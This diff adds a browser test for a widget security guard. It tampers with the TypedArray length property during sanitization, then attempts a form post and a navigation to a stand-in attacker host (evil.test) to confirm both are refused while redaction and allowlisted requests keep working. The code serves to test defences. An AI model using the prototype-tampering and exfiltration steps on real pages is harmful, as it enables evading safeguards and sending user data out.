@@ -169,3 +169,29 @@ test('guard removal by redefinition: WidgetGuard overwritten, deleted or redefin
   assert.deepEqual({ ...locked, hostLog: await framed.evaluate(() => hostLog) }, { parent: 'TypeError', source: 'TypeError', hostLog: ['search'] });
   await framed.close();
 });
+
+test('the engine driven into a trap through the loader (a TypedArray length redefined while the sanitizer runs) → nothing traps: navigation and form posts to unlisted origins stay refused, listed requests still go (guard)', async () => {
+  const page = await session.open(`window.refusals = [];
+    document.addEventListener('widget-guard:violation', (e) => refusals.push(e.detail.sink + ' ' + e.detail.blockedURL));`);
+  const outcome = await page.evaluate(async () => {
+    const guard = await guardReady;
+    const typedArray = Object.getPrototypeOf(Uint8Array.prototype);
+    const length = Object.getOwnPropertyDescriptor(typedArray, 'length');
+    Object.defineProperty(typedArray, 'length', { get: () => 0xfffffff0, configurable: true });
+    let redacted;
+    try { redacted = guard.redactText('mail jane.doe@example.com'); } catch (error) { redacted = error.name; }
+    Object.defineProperty(typedArray, 'length', length);
+    document.body.innerHTML = '<form action="https://evil.test/adv-trap/form" method="post"><input name="q" value="x"></form>';
+    document.forms[0].requestSubmit();
+    location.href = 'https://evil.test/adv-trap/location';
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    return { redacted, refusals, allowed: await attempt(() => fetch('https://api.test/v1/adv-trap/ok').then((r) => r.json())) };
+  });
+  assert.deepEqual({ ...outcome, allowed: outcome.allowed.value?.path }, {
+    redacted: 'mail [REDACTED:email]',
+    refusals: ['form-submit https://evil.test/adv-trap/form', 'navigation https://evil.test/adv-trap/location'],
+    allowed: '/v1/adv-trap/ok',
+  });
+  assertNothingLeaked('adv-trap');
+  await page.close();
+});
